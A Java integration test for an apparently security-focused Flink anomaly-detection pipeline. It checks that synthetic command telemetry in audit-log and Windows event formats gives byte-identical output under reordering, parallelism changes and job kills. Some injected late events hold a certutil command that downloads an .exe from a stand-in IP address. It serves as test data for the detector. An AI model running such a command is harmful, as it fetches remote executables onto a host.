package dev.longtail.job.graph;

import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.detectors.duplicates.NearDuplicateRule;
import dev.longtail.detectors.forest.IsolationForestDetector;
import dev.longtail.detectors.ranking.Combination;
import dev.longtail.detectors.ranking.ReducedDetectors;
import dev.longtail.detectors.window.DetectorWindows;
import dev.longtail.detectors.window.FunnelCount;
import dev.longtail.detectors.window.FunnelStage;
import dev.longtail.detectors.window.SampleSize;
import dev.longtail.detectors.window.Scale;
import dev.longtail.detectors.window.ShardWindow;
import dev.longtail.job.config.RawLines;
import dev.longtail.job.config.Scales;
import dev.longtail.job.config.ScoringOptions;
import dev.longtail.job.config.Selection;
import dev.longtail.job.config.TimeRange;
import dev.longtail.job.config.TopologyOptions;
import dev.longtail.job.connect.FileSinks;
import dev.longtail.job.funnel.Funnel;
import dev.longtail.job.run.GeneratedDays;
import dev.longtail.job.scoring.SmallModels;
import dev.longtail.labeler.client.LabelerOptions;
import dev.longtail.training.data.LabelledSet;
import dev.longtail.training.generate.GeneratedData;
import dev.longtail.udfs.event.CommandEvent;
import dev.longtail.udfs.event.EventParser;
import dev.longtail.udfs.event.NativeEventParser;
import dev.longtail.udfs.event.Twins;
import dev.longtail.udfs.features.FeatureFamily;
import dev.longtail.udfs.format.AutoParser;
import dev.longtail.udfs.io.Json;
import dev.longtail.udfs.testing.Any;
import dev.longtail.udfs.testing.Property;
import dev.longtail.udfs.testing.SmallModel;
import dev.longtail.udfs.testing.WindowsTwins;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Comparator;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.IdentityHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.Future;
import java.util.function.UnaryOperator;
import java.util.stream.IntStream;
import org.apache.flink.api.common.JobExecutionResult;
import org.apache.flink.api.common.RuntimeExecutionMode;
import org.apache.flink.configuration.CheckpointingOptions;
import org.apache.flink.configuration.Configuration;
import org.apache.flink.configuration.RestartStrategyOptions;
import org.apache.flink.connector.file.src.FileSource;
import org.apache.flink.connector.file.src.reader.TextLineInputFormat;
import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.io.TempDir;

/**
 * A result is a function of the events: in any order of arrival within the bounded
 * out-of-orderness, at any parallelism, streaming or bounded, and killed at any point, the same
 * events give the same output, byte for byte once it is sorted. Late events change nothing of it
 * but the count of late events, and are an output of their own.
 */
class FunctionOfTheEventsIT {
  private static final int DAYS = 3;
  private static final Duration LATENESS = Duration.ofHours(5);
  private static final int EVENTS_A_STEP = 100;

  /** So slowly that checkpoints lie between late events. */
  private static final int LATE_EVENTS_A_STEP = 4;

  private static final Duration STEP = Duration.ofMillis(40);

  /**
   * Once in some hundreds of tries a checkpoint never got past Flink's coordinators of the sources.
   * It then expires, and here the job is restored once more; output must be the same all the more.
   */
  private static final int CHECKPOINTS_THAT_HANG = 2;

  private static final Duration CHECKPOINT_TIMEOUT = Duration.ofMinutes(1);
  private static final int SHARDS = 4;
  private static final String SCADE = "\"detector\":\"scade-";
  private static final int LATE_EVENTS = 40;
  private static final long DAY = Duration.ofDays(1).toMillis();
  private static final long LAST_DAY =
      Instant.parse("2025-01-0" + DAYS + "T00:00:00Z").toEpochMilli();

  @TempDir static Path folder;
  private static List<SourceRecord> inOrder;
  private static TopologyOptions options;
  private static Map<Output, List<String>> reference;
  private static Path referenceCounts;
  private static Path known;

  /**
   * How the events are run.
   *
   * @param shuffle order of their arrival
   * @param parallelism of every operator
   * @param mode streaming or batch
   * @param kills how often the job is killed and restored; streaming only
   * @param knows whether it knows the exemplars of the reference, as a run over the same days does
   */
  record Run(long shuffle, int parallelism, RuntimeExecutionMode mode, int kills, boolean knows) {}

  /** The same start as the Linux audit log has it, in three records. */
  private static List<SourceRecord> audited(CommandEvent event, int number) {
    String command =
        HexFormat.of()
            .withUpperCase()
            .formatHex(event.commandLine().getBytes(StandardCharsets.UTF_8));
    int half = command.length() / 4 * 2;
    String head =
        "node=%s type=%%s msg=audit(%d.%03d:%d): "
            .formatted(event.host(), event.ts() / 1000, event.ts() % 1000, number);
    EventParser parser = new AutoParser();
    List<SourceRecord> parts = new ArrayList<>();
    for (String part :
        List.of(
            head.formatted("EXECVE")
                + "argc=1 a0_len=%d a0[0]=%s"
                    .formatted(command.length(), command.substring(0, half)),
            head.formatted("EXECVE") + "a0[1]=" + command.substring(half),
            head.formatted("SYSCALL") + "arch=c000003e syscall=59 success=yes exe=\"/bin/x\"")) {
      parts.add(ReadRecords.one(parser, part, "audited"));
    }
    return parts;
  }

  /** The same start as two channels of Windows tell it, or as the security log tells it alone. */
  private static List<SourceRecord> windows(CommandEvent event, int number) {
    EventParser parser = new AutoParser();
    String text = Json.line(event.commandLine());
    String line = text.substring(1, text.length() - 1);
    List<SourceRecord> told = new ArrayList<>();
    told.add(
        ReadRecords.one(
            parser, WindowsTwins.security(event.host(), number + 1, event.ts(), line), "4688"));
    if (number % 3 != 0) {
      long later = event.ts() + number % 1000;
      told.add(
          ReadRecords.one(
              parser, WindowsTwins.sysmon(event.host(), number + 1, later, line), "sysmon"));
    }
    return told;
  }

  @BeforeAll
  static void makeTheReference() throws Exception {
    GeneratedData data = GeneratedDays.generate(folder.resolve("data"), DAYS, 700);
    NativeEventParser parser = new NativeEventParser();
    inOrder = new ArrayList<>();
    for (String line : GeneratedDays.lines(data.telemetry())) {
      SourceRecord read = ReadRecords.one(parser, line, "line " + inOrder.size());
      if (inOrder.size() % 7 == 0) {
        audited(read.event(), inOrder.size()).forEach(inOrder::add);
      } else if (inOrder.size() % 5 == 0) {
        windows(read.event(), inOrder.size()).forEach(inOrder::add);
      } else {
        inOrder.add(read);
      }
    }
    TopologyOptions defaults = TopologyOptions.DEFAULT;
    // Pools of 30 are far smaller than the 150 lines of a shard: the previous models choose.
    options =
        new TopologyOptions(
                new TopologyOptions.Events(
                    defaults.events().windows(),
                    TimeRange.ALL,
                    LATENESS,
                    defaults.events().maxDrift(),
                    Twins.ONCE,
                    RawLines.KEEP),
                new TopologyOptions.Ranking(
                    Scales.BOTH,
                    SHARDS,
                    8,
                    new IsolationForestDetector(25, 64),
                    FeatureFamily.ALL,
                    new ShardWindow.Limits(80, 30, 1024),
                    new SampleSize(0.7, 100),
                    ReducedDetectors.ALL,
                    Combination.EACH),
                new TopologyOptions.NearDuplicates(
                    SmallModel.MODEL, new NearDuplicateRule(SmallModel.COSINE, true)),
                new TopologyOptions.Labels(LabelerOptions.truth(data.truth()), true))
            .with(new ScoringOptions(scorer(data).toString(), Duration.ZERO, 8, 8, Selection.BOTH));
    Run bounded = new Run(0, 1, RuntimeExecutionMode.BATCH, 0, false);
    reference = outputOf("reference", bounded, inOrder, List.of());
    assertThat(inOrder.stream().filter(one -> one.twin() != null)).hasSizeGreaterThan(300);
    referenceCounts = folder.resolve("reference").resolve(Output.FUNNEL.folder());
    Funnel.Counts counts = Funnel.read(referenceCounts).total();
    assertThat(counts.twins()).isGreaterThan(100).isEqualTo(counts.skipped());
    // The published detectors of the reduced scale find as many as they may, corrected for length
    // or
    // not, and so do two rankings with one budget at the full scale; the layers of SCADE, what
    // passes
    // their thresholds.
    int scade =
        (int) reference.get(Output.ANOMALIES).stream().filter(one -> one.contains(SCADE)).count();
    assertThat(scade).isPositive();
    assertThat(reference.get(Output.ANOMALIES))
        .hasSizeBetween(7 * 8 * DAYS + scade, 8 * 8 * DAYS + scade)
        .anyMatch(line -> line.contains("\"detector\":\"value\""));
    assertThat(reference.get(Output.EXEMPLARS)).isNotEmpty();
    known = Files.write(folder.resolve("known.jsonl"), reference.get(Output.EXEMPLARS));
    assertThat(reference.get(Output.VERDICTS)).isNotEmpty();
    assertThat(reference.get(Output.CONTROL)).isNotEmpty();
    assertThat(reference.get(Output.DETECTIONS)).isNotEmpty();
    assertThat(reference.get(Output.REVIEW_QUEUE)).hasSize(8 * DAYS);
    assertThat(reference.get(Output.DRIFT)).hasSize(3 * (DAYS - 1) - 1);
  }

  private static Path scorer(GeneratedData data) throws IOException {
    return SmallModels.text(
        folder.resolve("scorer"), LabelledSet.read("ab", data.abTrain()).rows());
  }

  @Property(tries = 5)
  void aStreamGivesTheSameOutputInAnyOrderKilledAnywhere(Any any) throws Exception {
    givesTheSameOutput(
        new Run(
            any.number(),
            any.of(1, 2, 4),
            RuntimeExecutionMode.STREAMING,
            any.of(0, 1, 2, 2),
            any.of(true, false)));
  }

  @Property(tries = 1)
  void aBoundedJobGivesTheSameOutputInAnyOrder(Any any) throws Exception {
    givesTheSameOutput(
        new Run(any.number(), any.of(2, 4), RuntimeExecutionMode.BATCH, 0, any.of(true, false)));
  }

  private static void givesTheSameOutput(Run run) throws Exception {
    boolean streaming = run.mode() == RuntimeExecutionMode.STREAMING;
    Map<Output, List<String>> expected = new TreeMap<>(reference);
    List<SourceRecord> late = streaming ? lateEvents() : List.of();
    if (streaming) {
      expected.put(
          Output.LATE, late.stream().map(record -> LateLine.of(record.event())).sorted().toList());
    }
    expected.put(Output.FUNNEL, funnelWith(late));
    Map<Output, List<String>> result =
        outputOf(UUID.randomUUID().toString(), run, arrival(run.shuffle()), late);
    assertThat(result.keySet()).isEqualTo(expected.keySet());
    expected.forEach(
        (output, lines) ->
            assertThat(result.get(output)).as(output + " of " + run).isEqualTo(lines));
  }

  /** Each event arrives between its time and the bounded out-of-orderness after it. */
  private static List<SourceRecord> arrival(long shuffle) {
    Random random = new Random(shuffle);
    IdentityHashMap<SourceRecord, Long> arrivals = new IdentityHashMap<>();
    for (SourceRecord record : inOrder) {
      long delay = (long) (random.nextDouble() * LATENESS.toMillis());
      arrivals.put(record, record.timestamp() + delay);
    }
    return inOrder.stream().sorted(Comparator.comparingLong(arrivals::get)).toList();
  }

  /** Events of all windows but the last, and of long before: old commands and new ones. */
  private static List<SourceRecord> lateEvents() {
    List<SourceRecord> late = new ArrayList<>();
    List<SourceRecord> events = inOrder.stream().filter(one -> one.event() != null).toList();
    for (int i = 0; i < LATE_EVENTS; i++) {
      SourceRecord early = events.get(i * 7);
      String ofTheDay = early.event().commandLine();
      long ts =
          switch (i % 5) {
            case 0 -> i * 1000L;
            case 1 -> LAST_DAY - (DAYS + 1) * DAY - i;
            case 2 -> LAST_DAY - 1;
            default -> early.timestamp();
          };
      String line =
          i % 2 == 0 ? ofTheDay : "certutil -urlcache -f http://203.0.113.9/" + i + ".exe";
      late.add(
          new SourceRecord(
              new CommandEvent("late-" + i, ts, "host", "user", "linux", "", "", line), null));
    }
    return late;
  }

  /** The reference's counts and these late events; those of 1970 have no window of their own. */
  private static List<String> funnelWith(List<SourceRecord> late) {
    Funnel funnel = Funnel.read(referenceCounts);
    DetectorWindows windows = options.events().windows();
    Map<String, Long> counts = new TreeMap<>();
    for (SourceRecord record : late) {
      boolean longAgo = record.timestamp() < DAY;
      String window = windows.nameOf(windows.startOf(record.timestamp()));
      counts.merge(longAgo ? FunnelCount.UNKNOWN_WINDOW : window, 1L, Long::sum);
    }
    counts.forEach(
        (window, count) -> {
          for (Scale scale : Scale.values()) {
            funnel.add(new FunnelCount(window, scale.label(), FunnelStage.LATE, "test", count));
          }
        });
    return rows(funnel);
  }

  private static List<String> rows(Funnel funnel) {
    return funnel.rows().stream().map(Json::line).toList();
  }

  /**
   * Runs the events. Those of {@code late} come before the last of them, when the windows of the
   * late ones are closed and a restart cannot open them again.
   */
  private static Map<Output, List<String>> outputOf(
      String name, Run run, List<SourceRecord> records, List<SourceRecord> late) throws Exception {
    Path out = Files.createDirectory(folder.resolve(name));
    int onTime = records.size() * 9 / 10;
    List<SourceRecord> all = new ArrayList<>(records.subList(0, onTime));
    List<SourceRecord> anyOrder = new ArrayList<>(late);
    Random random = new Random(run.shuffle());
    Collections.shuffle(anyOrder, random);
    all.addAll(anyOrder);
    all.addAll(records.subList(onTime, records.size()));
    GatedSource.Gate gate = GatedSource.gate(name);
    int lateEnd = onTime + late.size();
    int[] killedAt = killedAt(run, random, onTime, lateEnd);
    gate.reads(all, killedAt);
    StreamExecutionEnvironment env = environment(run, folder.resolve(name + "-checkpoints"));
    new LongtailTopology(
            new GatedSource(name),
            run.knows() ? earlierExemplars() : null,
            new FileSinks(new org.apache.flink.core.fs.Path(out.toUri()), false),
            options,
            run.mode())
        .build(env);
    CompletableFuture<JobExecutionResult> end = env.executeAsync().getJobExecutionResult();
    if (run.mode() == RuntimeExecutionMode.STREAMING) {
      openTo(onTime, 0, EVENTS_A_STEP, gate, end);
      while (!isClosedForEver(out) && !end.isDone()) {
        Thread.sleep(50);
      }
      openTo(lateEnd, onTime, LATE_EVENTS_A_STEP, gate, end);
      openTo(all.size(), lateEnd, EVENTS_A_STEP, gate, end);
    }
    gate.openTo(all.size());
    var unused = end.get();
    assertThat(gate.deaths()).as("deaths").isEqualTo(killedAt.length);
    Map<Output, List<String>> lines = new TreeMap<>();
    for (Output output : Output.values()) {
      Path written = out.resolve(output.folder());
      if (output != Output.FUNNEL && Files.exists(written)) {
        lines.put(output, GeneratedDays.sortedLines(written).stream().map(scored(output)).toList());
      }
    }
    lines.put(Output.FUNNEL, rows(Funnel.read(out.resolve(Output.FUNNEL.folder()))));
    return lines;
  }

  /** A stream tells of a scored command the event that came first. */
  private static UnaryOperator<String> scored(Output output) {
    return output == Output.DETECTIONS || output == Output.REVIEW_QUEUE
        ? line -> line.replaceFirst(",\"source\":.*", "}")
        : UnaryOperator.identity();
  }

  /** Half of the times anywhere, half of the times at a late event: it is then read first. */
  private static int[] killedAt(Run run, Random random, int onTime, int lateEnd) {
    if (run.mode() != RuntimeExecutionMode.STREAMING) {
      return new int[0];
    }
    return IntStream.range(0, run.kills())
        .map(i -> random.nextInt(random.nextBoolean() ? 1 : onTime + 8, lateEnd))
        .sorted()
        .toArray();
  }

  private static void openTo(int end, int from, int step, GatedSource.Gate gate, Future<?> job)
      throws InterruptedException {
    for (int open = from; open < end && !job.isDone(); open += step) {
      gate.openTo(Math.min(open + step, end));
      Thread.sleep(STEP.toMillis());
    }
  }

  /**
   * Whether every shard has closed all days but the last, and a checkpoint has it: files become
   * visible with it.
   */
  private static boolean isClosedForEver(Path out) throws IOException {
    Path counts = out.resolve(Output.FUNNEL.folder());
    if (!Files.exists(counts)) {
      return false;
    }
    List<String> lines;
    try {
      lines = GeneratedDays.sortedLines(counts);
    } catch (UncheckedIOException e) { // a draft became a file meanwhile
      return false;
    }
    Set<String> closed = new HashSet<>();
    for (String line : lines) {
      FunnelCount count = Json.MAPPER.readValue(line, FunnelCount.class);
      if (count.stage() == FunnelStage.UNIQUE && count.scale().equals(Scale.FULL.label())) {
        closed.add(count.window() + count.place());
      }
    }
    return closed.size() == SHARDS * (DAYS - 1);
  }

  private static FileSource<String> earlierExemplars() {
    return FileSource.forRecordStreamFormat(
            new TextLineInputFormat(), new org.apache.flink.core.fs.Path(known.toUri()))
        .build();
  }

  private static StreamExecutionEnvironment environment(Run run, Path checkpoints) {
    Configuration config = new Configuration();
    config.set(RestartStrategyOptions.RESTART_STRATEGY, "fixed-delay");
    config.set(
        RestartStrategyOptions.RESTART_STRATEGY_FIXED_DELAY_ATTEMPTS,
        run.kills() + CHECKPOINTS_THAT_HANG);
    config.set(RestartStrategyOptions.RESTART_STRATEGY_FIXED_DELAY_DELAY, Duration.ofMillis(10));
    config.set(CheckpointingOptions.CHECKPOINTS_DIRECTORY, checkpoints.toUri().toString());
    StreamExecutionEnvironment env =
        StreamExecutionEnvironment.createLocalEnvironment(run.parallelism(), config);
    if (run.mode() == RuntimeExecutionMode.STREAMING) {
      env.enableCheckpointing(100);
      env.getCheckpointConfig().setCheckpointTimeout(CHECKPOINT_TIMEOUT.toMillis());
      // So that the first watermark after a restart is that of the first events.
      env.getConfig().setAutoWatermarkInterval(2);
    }
    return env;
  }
}
